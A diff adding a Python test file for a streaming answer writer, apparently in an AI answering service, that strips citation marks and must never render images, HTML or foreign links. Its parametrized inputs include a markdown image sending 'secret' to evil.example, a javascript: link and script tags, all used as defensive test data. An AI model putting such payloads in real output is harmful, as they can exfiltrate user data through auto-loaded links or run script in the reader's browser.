@@ -1,0 +1,46 @@
+"""What is shown of a generated text, whatever was left out: no image, HTML or foreign link."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from serve.answering.writing import AnswerWriter
+from tests.unit.serve.answering.rendered import dangers
+from tests.unit.serve.answering.test_citations import evidence
+from tests.unit.serve.answering.test_links import FRAGMENTS, KNOWN
+
+SOURCES = [evidence(f"See {KNOWN} for tents."), evidence("Oslo opens at nine.", label="S2")]
+MARKS = ["[S1]", "[S99]", "(S99)", "【S99】", "[[S99]]", "[S99, S2]", "S9", "9]", "(S", "\\[S99\\]"]
+
+
+def written(*pieces: str) -> tuple[str, AnswerWriter]:
+    writer = AnswerWriter(SOURCES)
+    return "".join(writer.feed(piece) for piece in pieces) + writer.finish(), writer
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("!【S99】[x]【S99】(//evil.example/?q=secret)", "x"),
+        ("[click]【S99】(javascript:alert(1))", "click"),
+        ("<i(S99)mg src=//evil.example/x> hi", "hi"),
+        ("ht(S99)tps://evil.example/?q=secret x", "x"),
+        ("x <【S99】script>alert(1)</script>", "x alert(1)"),
+    ],
+)
+def test_a_mark_that_is_left_out_makes_no_link_of_what_it_parted(text: str, expected: str) -> None:
+    assert written(text)[0] == expected
+
+
+@settings(max_examples=1000)
+@given(pieces=st.lists(st.sampled_from(FRAGMENTS + MARKS), max_size=30))
+def test_no_image_no_html_and_no_foreign_link_is_shown(pieces: list[str]) -> None:
+    shown, writer = written(*pieces)
+    whole, at_once = written("".join(pieces))
+    assert (shown, writer.marks) == (whole, at_once.marks)
+    assert shown == shown.strip()
+    assert "evil" not in shown
+    assert not dangers(shown, KNOWN)
+    assert all(shown[mark.at : mark.end] == f"[{mark.label}]" for mark in writer.marks)
